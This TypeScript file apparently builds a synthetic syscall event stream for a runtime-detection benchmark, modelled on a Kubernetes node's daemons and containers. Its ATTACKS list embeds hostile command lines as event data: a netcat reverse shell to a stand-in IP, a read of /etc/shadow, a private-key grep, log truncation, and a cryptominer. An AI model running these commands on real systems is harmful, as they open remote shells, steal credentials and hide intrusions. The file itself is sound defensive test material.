/**
 * A fixed, synthetic syscall event stream for the syscall evaluation benchmark.
 *
 * Shaped like a Kubernetes node: host daemons (systemd, kubelet, containerd, sshd, cron, an
 * ssh user's bash) and containers (nginx, a Java service, Node, gunicorn, postgres, redis,
 * coredns, kube-proxy, fluent-bit), with the event-type mix of a busy host (read/write/close/
 * openat dominate; execve, connect, accept, clone are a few percent; setuid, ptrace, symlink are
 * rare). About 0.2% of the events are attacker-like (a terminal shell in a container, netcat
 * with -e, a read of /etc/shadow, a log truncation, a private-key grep, a shell under nginx,
 * a binary dropped into a container's upper layer) so the stream raises some alerts.
 *
 * Events carry pre-extracted `fields`, the way recorded events do (SyscallEvent), with the
 * fields the upstream rules read: evt.type/dir/num/res/rawres, evt.arg.*, the proc.* family
 * (proc.aname as the ancestor list plus proc.aname[N]), fd.* (name, directory, filename,
 * typechar, type, num, l4proto, ports, ips), user.*, group.*, container.*, k8s.*.
 *
 * Values have the JS type of the field's declared type (the engine does not coerce: a number
 * in a string field such as `evt.arg.mode` makes `contains` throw), so `evt.arg.*` are text as
 * Falco renders them.
 *
 * Deterministic: the same seed gives the same events, so runs compare.
 */
import { SyscallEvent } from '../../src/events/syscall.ts';
import { Rng, weighted } from '../common.ts';

type Fields = Record<string, unknown>;

interface ContainerInfo {
  id: string;
  name: string;
  image: string;
  privileged?: boolean;
  ns: string;
  pod: string;
}

interface ProcSpec {
  /** Command line as typed: the first word is the process name. */
  cmd: string;
  exe: string;
  /** Parent chain, nearest first, as command lines (`sshd: alice@pts/0`). */
  parents: string[];
  user?: 'root' | 'alice' | 'nginx' | 'postgres' | 'redis' | 'app';
  tty?: number;
  container?: ContainerInfo;
  /** Files opened for reading / writing (a trailing `*` gets a number appended). */
  reads?: string[];
  writes?: string[];
  /** Outbound peers (`ip:port`), and the port it accepts on. */
  connects?: string[];
  listens?: number;
  /** Relative weights: how often it shows up in I/O-type events, and how often it is exec'ed. */
  io: number;
  exec: number;
  upperLayer?: boolean;
  execFlags?: string;
}

const USERS: Record<string, [name: string, uid: number, gid: number, group: string]> = {
  root: ['root', 0, 0, 'root'],
  alice: ['alice', 1000, 1000, 'alice'],
  nginx: ['nginx', 101, 101, 'nginx'],
  postgres: ['postgres', 999, 999, 'postgres'],
  redis: ['redis', 999, 1000, 'redis'],
  app: ['app', 10001, 10001, 'app'],
};

/** Where each command name lives, for proc.exe/proc.exepath of parents. */
const EXE: Record<string, string> = {
  systemd: '/usr/lib/systemd/systemd', sshd: '/usr/sbin/sshd', bash: '/usr/bin/bash', sh: '/usr/bin/sh',
  containerd: '/usr/bin/containerd', 'containerd-shim': '/usr/bin/containerd-shim-runc-v2',
  runc: '/usr/bin/runc', kubelet: '/usr/bin/kubelet', cron: '/usr/sbin/cron', 'run-parts': '/usr/bin/run-parts',
  nginx: '/usr/sbin/nginx', java: '/opt/java/openjdk/bin/java', node: '/usr/local/bin/node', tini: '/usr/bin/tini',
  gunicorn: '/usr/local/bin/gunicorn', postgres: '/usr/lib/postgresql/16/bin/postgres',
  'redis-server': '/usr/local/bin/redis-server', coredns: '/coredns', 'kube-proxy': '/usr/local/bin/kube-proxy',
  'fluent-bit': '/fluent-bit/bin/fluent-bit',
};

const C = (name: string, image: string, ns: string, pod: string, id: string, privileged = false): ContainerInfo =>
  ({ id, name, image, ns, pod, privileged });

const NGINX = C('nginx', 'docker.io/library/nginx', 'web', 'frontend-7c9d8-x2lqp', '3f2a9c1b7d4e');
const CHECKOUT = C('checkout', 'registry.example.com/shop/checkout', 'shop', 'checkout-5f6b7-8kq2d', 'a81c03e9f2b4');
const WEB = C('web', 'ghcr.io/acme/web-frontend', 'web', 'web-6d9f4-lm7tq', '0c7e5d2a9b11');
const API = C('api', 'docker.io/acme/api', 'shop', 'api-84c5b-w9z4r', '9e4b6f1c0a27');
const PG = C('postgres', 'docker.io/library/postgres', 'data', 'postgres-0', '5d1f8a3e6c90');
const REDIS = C('redis', 'docker.io/library/redis', 'data', 'redis-0', 'b2e7c4a19f63');
const COREDNS = C('coredns', 'registry.k8s.io/coredns/coredns', 'kube-system', 'coredns-5d78c-9xkqv', '7a3c9e2f1d05');
const KPROXY = C('kube-proxy', 'registry.k8s.io/kube-proxy', 'kube-system', 'kube-proxy-h7xkq', 'e4d2b8f0c317', true);
const FLUENT = C('fluent-bit', 'cr.fluentbit.io/fluent/fluent-bit', 'logging', 'fluent-bit-r2x8v', '1b9f3d7e2a64');

const SHIM = ['containerd-shim -namespace k8s.io -id 3f2a9c1b7d4e -address /run/containerd/containerd.sock', 'systemd'];
const SSH_BASH = ['bash', 'sshd: alice@pts/0', 'sshd: alice [priv]', 'sshd -D', 'systemd'];

/** The processes of the node. */
const PROCS: ProcSpec[] = [
  // ---- host daemons
  { cmd: 'systemd --system --deserialize 31', exe: EXE.systemd!, parents: [], io: 2, exec: 0,
    reads: ['/proc/1/mountinfo', '/sys/fs/cgroup/system.slice/cgroup.procs', '/run/systemd/units/invocation:kubelet.service'] },
  { cmd: 'systemd-journald', exe: '/usr/lib/systemd/systemd-journald', parents: ['systemd'], io: 4, exec: 0,
    reads: ['/proc/*/cmdline', '/proc/*/status'], writes: ['/var/log/journal/5e1c2f/system.journal'] },
  { cmd: 'kubelet --config=/var/lib/kubelet/config.yaml --kubeconfig=/etc/kubernetes/kubelet.conf', exe: EXE.kubelet!,
    parents: ['systemd'], io: 10, exec: 0, connects: ['10.0.0.10:6443'],
    reads: ['/proc/*/stat', '/sys/fs/cgroup/kubepods.slice/memory.stat', '/var/lib/kubelet/pods/*/volumes', '/etc/kubernetes/kubelet.conf'],
    writes: ['/var/lib/kubelet/cpu_manager_state', '/var/log/pods/web_frontend/nginx/0.log'] },
  { cmd: 'containerd', exe: EXE.containerd!, parents: ['systemd'], io: 6, exec: 0,
    reads: ['/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db', '/run/containerd/io.containerd.runtime.v2.task/k8s.io/*/config.json'],
    writes: ['/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db'] },
  { cmd: 'containerd-shim-runc-v2 -namespace k8s.io -id 3f2a9c1b7d4e -address /run/containerd/containerd.sock',
    exe: EXE['containerd-shim']!, parents: ['systemd'], io: 2, exec: 0.5, reads: ['/run/containerd/s/*'] },
  { cmd: 'runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/3f2a/log.json exec --process /tmp/runc-process1234 3f2a9c1b7d4e',
    exe: EXE.runc!, parents: SHIM, io: 1, exec: 6, reads: ['/run/containerd/runc/k8s.io/3f2a9c1b7d4e/state.json'] },
  { cmd: 'sshd -D', exe: EXE.sshd!, parents: ['systemd'], io: 1, exec: 0, listens: 22,
    reads: ['/etc/ssh/sshd_config', '/etc/passwd', '/etc/shadow', '/etc/pam.d/sshd'] },
  { cmd: 'cron -f', exe: EXE.cron!, parents: ['systemd'], io: 0.3, exec: 0.2, reads: ['/etc/crontab', '/var/spool/cron/crontabs/root'] },
  { cmd: 'sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.hourly; }', exe: EXE.sh!,
    parents: ['cron -f', 'systemd'], io: 0.1, exec: 0.8 },
  { cmd: 'run-parts --report /etc/cron.hourly', exe: EXE['run-parts']!, parents: ['sh -c run-parts', 'cron -f', 'systemd'], io: 0.1, exec: 0.8 },
  { cmd: 'node_exporter --path.rootfs=/host', exe: '/usr/local/bin/node_exporter', parents: ['systemd'], io: 4, exec: 0,
    reads: ['/proc/stat', '/proc/meminfo', '/proc/*/stat', '/sys/class/net/eth0/statistics/rx_bytes'] },
  // ---- an administrator over ssh
  { cmd: 'bash', exe: EXE.bash!, parents: SSH_BASH.slice(1), user: 'alice', tty: 34816, io: 1, exec: 0.5,
    reads: ['/home/alice/.bashrc', '/home/alice/.bash_history', '/etc/profile'], writes: ['/home/alice/.bash_history'] },
  { cmd: 'kubectl get pods -A', exe: '/usr/local/bin/kubectl', parents: SSH_BASH, user: 'alice', tty: 34816, io: 0.5, exec: 1,
    reads: ['/home/alice/.kube/config'], connects: ['10.0.0.10:6443'] },
  { cmd: 'ls -la /var/log', exe: '/usr/bin/ls', parents: SSH_BASH, user: 'alice', tty: 34816, io: 0.2, exec: 1.5, reads: ['/etc/ld.so.cache', '/var/log'] },
  { cmd: 'git status', exe: '/usr/bin/git', parents: SSH_BASH, user: 'alice', tty: 34816, io: 0.3, exec: 0.5,
    reads: ['/home/alice/src/vigil/.git/index', '/home/alice/src/vigil/.git/HEAD'] },
  { cmd: 'grep -r TODO src', exe: '/usr/bin/grep', parents: SSH_BASH, user: 'alice', tty: 34816, io: 0.3, exec: 0.5,
    reads: ['/home/alice/src/vigil/src/*.ts'] },
  { cmd: 'sudo journalctl -u kubelet', exe: '/usr/bin/sudo', parents: SSH_BASH, user: 'alice', tty: 34816, io: 0.1, exec: 0.2,
    reads: ['/etc/sudoers', '/etc/sudoers.d/90-cloud-init-users'] },
  // ---- containers
  { cmd: 'nginx: worker process', exe: EXE.nginx!, parents: ['nginx: master process nginx -g daemon off;', ...SHIM], user: 'nginx',
    container: NGINX, io: 12, exec: 0.2, listens: 80, reads: ['/usr/share/nginx/html/index.html', '/usr/share/nginx/html/assets/app.*.js'],
    writes: ['/var/log/nginx/access.log'], execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'java -Xmx512m -jar /app/checkout.jar', exe: EXE.java!, parents: ['tini -- java -jar /app/checkout.jar', ...SHIM], user: 'app',
    container: CHECKOUT, io: 10, exec: 0.1, listens: 8080, connects: ['10.244.1.17:5432', '10.244.2.9:6379'],
    reads: ['/app/checkout.jar', '/opt/java/openjdk/lib/modules', '/sys/fs/cgroup/cpu.max'], writes: ['/tmp/hsperfdata_app/1'], execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'node server.js', exe: EXE.node!, parents: SHIM, user: 'app', container: WEB, io: 8, exec: 0.1, listens: 3000,
    connects: ['10.96.12.40:8080'], reads: ['/app/server.js', '/app/node_modules/*/package.json'], execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'gunicorn: worker [api.wsgi]', exe: EXE.gunicorn!, parents: ['gunicorn: master [api.wsgi]', ...SHIM], user: 'app',
    container: API, io: 6, exec: 0.2, listens: 8000, connects: ['10.244.1.17:5432'], reads: ['/app/api/*.py', '/usr/local/lib/python3.12/site-packages/*.py'],
    execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'postgres: checkout checkout 10.244.1.23(50412) idle', exe: EXE.postgres!, parents: ['postgres -c config_file=/etc/postgresql/postgresql.conf', ...SHIM],
    user: 'postgres', container: PG, io: 10, exec: 0.1, listens: 5432,
    reads: ['/var/lib/postgresql/data/base/16384/*'], writes: ['/var/lib/postgresql/data/pg_wal/00000001000000000000002A', '/var/lib/postgresql/data/base/16384/*'],
    execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'redis-server *:6379', exe: EXE['redis-server']!, parents: SHIM, user: 'redis', container: REDIS, io: 6, exec: 0, listens: 6379,
    writes: ['/data/appendonly.aof'] },
  { cmd: 'coredns -conf /etc/coredns/Corefile', exe: EXE.coredns!, parents: SHIM, container: COREDNS, io: 5, exec: 0, listens: 53,
    connects: ['10.96.0.1:443'], reads: ['/etc/coredns/Corefile', '/etc/hosts'] },
  { cmd: 'kube-proxy --config=/var/lib/kube-proxy/config.conf', exe: EXE['kube-proxy']!, parents: SHIM, container: KPROXY, io: 3, exec: 0,
    connects: ['10.0.0.10:6443'], reads: ['/var/lib/kube-proxy/config.conf', '/run/xtables.lock'] },
  { cmd: 'iptables-restore -w 5 -W 100000 --noflush --counters', exe: '/usr/sbin/xtables-nft-multi',
    parents: ['kube-proxy --config=/var/lib/kube-proxy/config.conf', ...SHIM], container: KPROXY, io: 0.5, exec: 2, reads: ['/run/xtables.lock'],
    execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'fluent-bit -c /fluent-bit/etc/fluent-bit.conf', exe: EXE['fluent-bit']!, parents: SHIM, container: FLUENT, io: 6, exec: 0,
    reads: ['/var/log/containers/*.log', '/var/log/pods/shop_checkout/checkout/0.log'], connects: ['10.96.40.2:24224'] },
  // Exec probes: runc starts them inside the container.
  { cmd: 'pg_isready -U postgres -h 127.0.0.1', exe: '/usr/lib/postgresql/16/bin/pg_isready', parents: ['runc init', ...SHIM],
    user: 'postgres', container: PG, io: 0.2, exec: 3, connects: ['127.0.0.1:5432'], execFlags: 'EXE_LOWER_LAYER' },
  { cmd: 'redis-cli ping', exe: '/usr/local/bin/redis-cli', parents: ['runc init', ...SHIM], user: 'redis', container: REDIS,
    io: 0.2, exec: 3, connects: ['127.0.0.1:6379'], execFlags: 'EXE_LOWER_LAYER' },
];

/** Attacker-like behaviour, injected rarely. Each builds one event's extra fields on a process. */
interface Attack {
  proc: ProcSpec;
  type: string;
  extra: (rng: Rng) => Fields;
}

const ATTACKS: Attack[] = [
  { // Terminal shell in container (kubectl exec -it ... bash)
    proc: { cmd: 'bash', exe: EXE.bash!, parents: ['runc', ...SHIM], container: NGINX, tty: 34816, io: 0, exec: 0, execFlags: 'EXE_LOWER_LAYER' },
    type: 'execve', extra: () => ({}),
  },
  { // Netcat reverse shell in a container
    proc: { cmd: 'nc -e /bin/sh 203.0.113.50 4444', exe: '/usr/bin/nc', parents: ['sh -c nc -e /bin/sh 203.0.113.50 4444', 'node server.js', ...SHIM],
      user: 'app', container: WEB, io: 0, exec: 0, execFlags: 'EXE_LOWER_LAYER' },
    type: 'execve', extra: () => ({}),
  },
  { // Read of /etc/shadow by an application
    proc: { cmd: 'python3 -c import crypt', exe: '/usr/local/bin/python3.12', parents: ['sh -c python3', 'gunicorn: worker [api.wsgi]', ...SHIM],
      container: API, io: 0, exec: 0 },
    type: 'openat', extra: () => ({ ...openFields('/etc/shadow', false, 5), 'evt.arg.flags': 'O_RDONLY|O_CLOEXEC' }),
  },
  { // Truncating an access log
    proc: { cmd: 'bash', exe: EXE.bash!, parents: SSH_BASH.slice(1), user: 'root', tty: 34816, io: 0, exec: 0 },
    type: 'openat', extra: () => ({ ...openFields('/var/log/auth.log', true, 3), 'evt.arg.flags': 'O_WRONLY|O_CREAT|O_TRUNC' }),
  },
  { // Searching for private keys
    proc: { cmd: 'grep -r BEGIN RSA PRIVATE /home', exe: '/usr/bin/grep', parents: SSH_BASH, user: 'root', tty: 34816, io: 0, exec: 0 },
    type: 'execve', extra: () => ({}),
  },
  { // A shell below a web server
    proc: { cmd: 'sh -c id; uname -a', exe: EXE.sh!, parents: ['nginx: worker process', 'nginx: master process nginx -g daemon off;', ...SHIM],
      user: 'nginx', container: NGINX, io: 0, exec: 0, execFlags: 'EXE_LOWER_LAYER' },
    type: 'execve', extra: () => ({}),
  },
  { // A binary dropped into the container's writable layer, then run
    proc: { cmd: 'xmrig --donate-level 1 -o pool.example.net:3333', exe: '/tmp/xmrig', parents: ['sh -c /tmp/xmrig', 'java -Xmx512m -jar /app/checkout.jar', ...SHIM],
      user: 'app', container: CHECKOUT, io: 0, exec: 0, upperLayer: true, execFlags: 'EXE_WRITABLE|EXE_UPPER_LAYER' },
    type: 'execve', extra: () => ({}),
  },
];

// ---------------------------------------------------------------------------------------------
// Field building

const name0 = (cmd: string): string => cmd.split(' ', 1)[0]!.replace(/:$/, '');
const exeOf = (cmd: string): string => EXE[name0(cmd)] ?? `/usr/bin/${name0(cmd)}`;

/** The process fields that do not change from one event of the process to the next. */
function procBase(p: ProcSpec): Fields {
  const name = name0(p.cmd);
  const args = p.cmd.slice(p.cmd.indexOf(' ') + 1 || p.cmd.length);
  const parents = p.parents.map(name0);
  const [uname, uid, gid, gname] = USERS[p.user ?? 'root']!;
  const f: Fields = {
    'proc.name': name, 'proc.exe': p.exe, 'proc.exepath': p.exe, 'proc.cmdline': p.cmd, 'proc.args': args,
    'proc.tty': p.tty ?? 0, 'proc.cwd': p.container ? '/app/' : '/', 'proc.sname': parents[0] === 'bash' ? 'bash' : name,
    'proc.is_exe_upper_layer': !!p.upperLayer, 'proc.is_exe_from_memfd': false, 'proc.is_exe_writable': !!p.upperLayer,
    'proc.aname': parents,
    'user.name': uname, 'user.uid': uid, 'user.loginuid': p.tty ? 1000 : -1, 'user.loginname': p.tty ? 'alice' : '',
    'group.gid': gid, 'group.name': gname,
    'thread.cap_permitted': uid === 0 ? 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_KILL CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_CHROOT' : '',
    'thread.cap_effective': uid === 0 ? 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_KILL CAP_SETGID CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_CHROOT' : '',
  };
  if (p.parents.length > 0) {
    Object.assign(f, { 'proc.pname': parents[0], 'proc.pexe': exeOf(p.parents[0]!), 'proc.pexepath': exeOf(p.parents[0]!), 'proc.pcmdline': p.parents[0] });
  }
  for (let i = 0; i < parents.length && i < 7; i++) f[`proc.aname[${i + 1}]`] = parents[i];
  if (p.parents.length > 1) {
    f['proc.aexe[2]'] = exeOf(p.parents[1]!);
    f['proc.aexepath[2]'] = exeOf(p.parents[1]!);
  }
  const c = p.container;
  Object.assign(f, c
    ? { 'container.id': c.id, 'container.name': c.name, 'container.image.repository': c.image, 'container.image.tag': 'latest',
        'container.privileged': !!c.privileged, 'k8s.ns.name': c.ns, 'k8s.pod.name': c.pod }
    : { 'container.id': 'host', 'container.name': 'host', 'container.image.repository': '', 'container.privileged': false });
  return f;
}

function dirOf(p: string): string {
  const i = p.lastIndexOf('/');
  return i <= 0 ? '/' : p.slice(0, i);
}

function openFields(file: string, write: boolean, fd: number): Fields {
  return {
    'fd.name': file, 'fd.nameraw': file, 'fd.directory': dirOf(file), 'fd.filename': file.slice(file.lastIndexOf('/') + 1),
    'fd.typechar': 'f', 'fd.type': 'file', 'fd.num': fd, 'evt.is_open_read': !write, 'evt.is_open_write': write,
    'evt.is_open_exec': false, 'evt.res': 'SUCCESS', 'evt.rawres': fd,
  };
}

function netFields(local: string, lport: number, remote: string, rport: number, proto: 'tcp' | 'udp', server: boolean, fd: number): Fields {
  const [cip, cport, sip, sport] = server ? [remote, rport, local, lport] : [local, lport, remote, rport];
  return {
    'fd.name': `${cip}:${cport}->${sip}:${sport}`, 'fd.typechar': '4', 'fd.type': 'ipv4', 'fd.l4proto': proto, 'fd.sockfamily': 'ip',
    'fd.num': fd, 'fd.cip': cip, 'fd.sip': sip, 'fd.lip': local, 'fd.rip': remote, 'fd.cport': cport, 'fd.sport': sport,
    'fd.lport': lport, 'fd.rport': rport, 'fd.connected': true,
    'fd.sip.name': sip === '10.96.0.1' ? 'kubernetes.default.svc.cluster.local' : '',
  };
}

const fill = (path: string, rng: Rng): string => path.replace('*', () => String(1000 + rng.int(30000)));

type Gen = (p: ProcSpec, base: Fields, rng: Rng) => Fields;

function fileGen(write: boolean): Gen {
  return (p, base, rng) => {
    const list = (write ? p.writes : p.reads) ?? p.reads ?? p.writes;
    const file = list ? fill(rng.pick(list), rng) : '/etc/ld.so.cache';
    const fd = 3 + rng.int(120);
    return { ...base, ...openFields(file, write && !!p.writes, fd), 'evt.arg.flags': write && p.writes ? 'O_WRONLY|O_APPEND|O_CREAT|O_CLOEXEC' : 'O_RDONLY|O_CLOEXEC', 'evt.arg.mode': '0' };
  };
}

/** read/write/close/sendto/recvfrom on a file, socket or pipe the process holds. */
function ioGen(kind: 'read' | 'write' | 'close' | 'net'): Gen {
  return (p, base, rng) => {
    const fd = 3 + rng.int(200);
    const bytes = 1 + rng.int(16384);
    const res = kind === 'close' ? { 'evt.res': 'SUCCESS', 'evt.rawres': 0 } : { 'evt.res': 'SUCCESS', 'evt.rawres': bytes };
    const x = rng.next();
    if (kind === 'net' || (x < 0.45 && (p.listens || p.connects))) {
      const local = p.container ? '10.244.1.' + (20 + (p.container.id.charCodeAt(0) % 30)) : '10.0.0.21';
      if (p.listens && (!p.connects || rng.chance(0.5))) {
        return { ...base, ...netFields(local, p.listens, `10.244.${rng.int(4)}.${2 + rng.int(250)}`, 32768 + rng.int(28000), p.listens === 53 ? 'udp' : 'tcp', true, fd), ...res };
      }
      // Processes that neither listen nor connect anywhere in particular still resolve names.
      const [ip, port] = (p.connects ? rng.pick(p.connects) : '10.96.0.10:53').split(':');
      return { ...base, ...netFields(local, 32768 + rng.int(28000), ip!, Number(port), port === '53' ? 'udp' : 'tcp', false, fd), ...res };
    }
    if (x < 0.6) {
      return { ...base, 'fd.name': `pipe:[${40000 + rng.int(9000)}]`, 'fd.typechar': 'p', 'fd.type': 'pipe', 'fd.num': fd, ...res };
    }
    const list = kind === 'write' ? p.writes ?? p.reads : p.reads ?? p.writes;
    const file = list ? fill(rng.pick(list), rng) : '/dev/null';
    return { ...base, 'fd.name': file, 'fd.directory': dirOf(file), 'fd.filename': file.slice(file.lastIndexOf('/') + 1), 'fd.typechar': 'f', 'fd.type': 'file', 'fd.num': fd, ...res };
  };
}

const GENS: Record<string, Gen> = {
  read: ioGen('read'), write: ioGen('write'), close: ioGen('close'), recvfrom: ioGen('net'), sendto: ioGen('net'),
  openat: fileGen(false), 'openat:w': fileGen(true),
  execve: (p, base) => ({ ...base, 'evt.arg.flags': p.execFlags ?? '0', 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.is_open_exec': false }),
  connect: (p, base, rng) => {
    const local = p.container ? '10.244.1.31' : '10.0.0.21';
    const [ip, port] = (p.connects ? rng.pick(p.connects) : '10.96.0.10:53').split(':');
    const ok = rng.chance(0.7);
    return { ...base, ...netFields(local, 32768 + rng.int(28000), ip!, Number(port), 'tcp', false, 3 + rng.int(100)),
      'evt.res': ok ? 'SUCCESS' : 'EINPROGRESS', 'evt.rawres': ok ? 0 : -115 };
  },
  accept4: (p, base, rng) => ({ ...base, ...netFields(p.container ? '10.244.1.31' : '10.0.0.21', p.listens ?? 8080,
    `10.244.${rng.int(4)}.${2 + rng.int(250)}`, 32768 + rng.int(28000), 'tcp', true, 3 + rng.int(100)), 'evt.res': 'SUCCESS', 'evt.rawres': 7 }),
  clone: (_p, base, rng) => ({ ...base, 'evt.arg.flags': 'CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM', 'evt.res': 'SUCCESS', 'evt.rawres': 20000 + rng.int(40000) }),
  socket: (_p, base, rng) => ({ ...base, 'evt.arg.domain': 'AF_INET', 'evt.arg.type': 'SOCK_STREAM', 'evt.arg.proto': '0', 'fd.num': 3 + rng.int(100), 'evt.res': 'SUCCESS', 'evt.rawres': 3 + rng.int(100) }),
  setuid: (_p, base) => ({ ...base, 'evt.arg.uid': '0', 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  unlinkat: (p, base, rng) => {
    const name = p.container ? `/tmp/upload-${rng.hex(6)}` : `/var/lib/kubelet/pods/${rng.hex(8)}/tmp`;
    return { ...base, 'evt.arg.name': name, 'evt.arg.path': name, 'evt.res': 'SUCCESS', 'evt.rawres': 0 };
  },
  renameat2: (p, base, rng) => {
    const dst = p.writes ? fill(p.writes[0]!, rng) : `/var/lib/containerd/tmp-${rng.hex(6)}`;
    return { ...base, 'evt.arg.oldpath': dst + '.tmp', 'evt.arg.newpath': dst, 'evt.res': 'SUCCESS', 'evt.rawres': 0 };
  },
  mkdirat: (_p, base, rng) => ({ ...base, 'evt.arg.path': `/var/lib/kubelet/pods/${rng.uuid()}/volumes`, 'evt.arg.mode': '0755', 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  fchmodat: (_p, base, rng) => ({ ...base, 'evt.arg.filename': `/run/containerd/s/${rng.hex(12)}`, 'evt.arg.mode': '0600', 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  symlinkat: (_p, base) => ({ ...base, 'evt.arg.target': '/etc/alternatives/java', 'evt.arg.linkpath': '/usr/bin/java', 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  dup2: (_p, base, rng) => ({ ...base, 'fd.name': `pipe:[${40000 + rng.int(9000)}]`, 'fd.typechar': 'p', 'fd.type': 'pipe', 'fd.num': 1, 'evt.res': 'SUCCESS', 'evt.rawres': 1 }),
  ptrace: (_p, base) => ({ ...base, 'evt.arg.request': 'PTRACE_PEEKDATA', 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  // No fd, no arguments that rules look at.
  futex: (_p, base) => ({ ...base, 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  epoll_wait: (_p, base, rng) => ({ ...base, 'evt.res': 'SUCCESS', 'evt.rawres': rng.int(8) }),
  mmap: (_p, base) => ({ ...base, 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
  procexit: (_p, base) => ({ ...base, 'evt.res': 'SUCCESS', 'evt.rawres': 0 }),
};

/** Event-type mix of a busy node (percent-ish). `openat:w` is an openat for writing. */
const pickType = weighted<string>([
  [19, 'read'], [13, 'write'], [11, 'close'], [11, 'openat'], [3, 'openat:w'], [5, 'futex'], [5, 'epoll_wait'],
  [2, 'mmap'], [4, 'recvfrom'], [4, 'sendto'], [3, 'connect'], [2, 'accept4'], [5, 'execve'], [3, 'clone'],
  [3, 'procexit'], [1, 'socket'], [1.5, 'unlinkat'], [0.8, 'renameat2'], [0.5, 'mkdirat'], [0.5, 'fchmodat'],
  [0.3, 'setuid'], [0.3, 'dup2'], [0.1, 'symlinkat'], [0.05, 'ptrace'],
]);

const pickIoProc = weighted(PROCS.map((p) => [p.io, p] as const));
const pickExecProc = weighted(PROCS.filter((p) => p.exec > 0).map((p) => [p.exec, p] as const));
/** setuid comes from root daemons dropping privileges (sshd for a login, cron for a job). */
const pickSetuidProc = weighted(PROCS.filter((p) => /^(sshd|cron) /.test(p.cmd)).map((p) => [1, p] as const));
/** Share of events that are attacker-like. */
const ATTACK_RATE = 0.002;

/**
 * `count` events, one every ~20 µs from a fixed start time. The process base records are built
 * once and spread into each event, as a recorder would hold process state and copy it out.
 */
export function buildSyscallStream(count: number, seed = 42): SyscallEvent[] {
  const rng = new Rng(seed);
  const bases = new Map<ProcSpec, Fields>();
  const baseOf = (p: ProcSpec): Fields => {
    let b = bases.get(p);
    if (!b) bases.set(p, (b = procBase(p)));
    return b;
  };
  const events: SyscallEvent[] = new Array(count);
  let t = 1_714_521_600_000_000_000n; // 2024-05-01T00:00:00Z
  for (let i = 0; i < count; i++) {
    t += BigInt(5_000 + rng.int(30_000));
    let p: ProcSpec;
    let type: string;
    let fields: Fields;
    if (rng.chance(ATTACK_RATE)) {
      const a = rng.pick(ATTACKS);
      p = a.proc;
      type = a.type;
      fields = { ...baseOf(p), ...(type === 'execve' ? GENS.execve!(p, baseOf(p), rng) : {}), ...a.extra(rng) };
    } else {
      type = pickType(rng);
      p = type === 'execve' ? pickExecProc(rng) : type === 'setuid' ? pickSetuidProc(rng) : pickIoProc(rng);
      fields = GENS[type]!(p, baseOf(p), rng);
    }
    // vpid 1 in a container means "container started" to the rules: keep it out of the steady
    // state, every container here is long running.
    const pid = p.container ? 2 + rng.int(400) : 300 + rng.int(60000);
    fields['evt.type'] = type === 'openat:w' ? 'openat' : type;
    fields['evt.dir'] = '<';
    fields['evt.num'] = i + 1;
    fields['evt.category'] = type.startsWith('open') || type === 'read' || type === 'write' ? 'file' : 'other';
    fields['proc.pid'] = pid;
    fields['proc.vpid'] = pid;
    fields['thread.tid'] = pid;
    events[i] = new SyscallEvent(t, fields);
  }
  return events;
}
